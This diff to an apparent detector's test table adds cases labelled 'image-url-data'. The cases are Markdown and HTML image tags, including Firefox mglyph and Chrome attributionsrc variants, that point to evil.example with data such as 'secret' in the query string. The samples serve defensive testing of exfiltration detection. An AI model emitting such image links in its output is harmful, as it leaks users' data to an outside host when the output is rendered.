@@ -24,6 +24,9 @@ def rules(text: str) -> list[str]:
         ("![x](https://evil.example/pixel.png?d=hello)", "image-url-data"),
         ("![](//evil.example/p?u=1)", "image-url-data"),
         ('<img alt="" src="https://evil.example/p.gif?c=secret">', "image-url-data"),
+        # Fetched in some browsers only: Firefox's <mglyph>, Chrome's attributionsrc (adversary11).
+        ('<math><mglyph src="https://evil.example/p.png"/></math>', "image-url-data"),
+        ('<img src=/x.png attributionsrc="/a https://evil.example/p">', "image-url-data"),
         ("![x](<https://evil.example/a.png?q=a>)", "image-url-data"),
         # Every valid Markdown image with data in its query, however it is written:
         ("- ![x][r]\n\n[r]: https://evil.example/p.png?d=alice", "image-url-data"),  # full
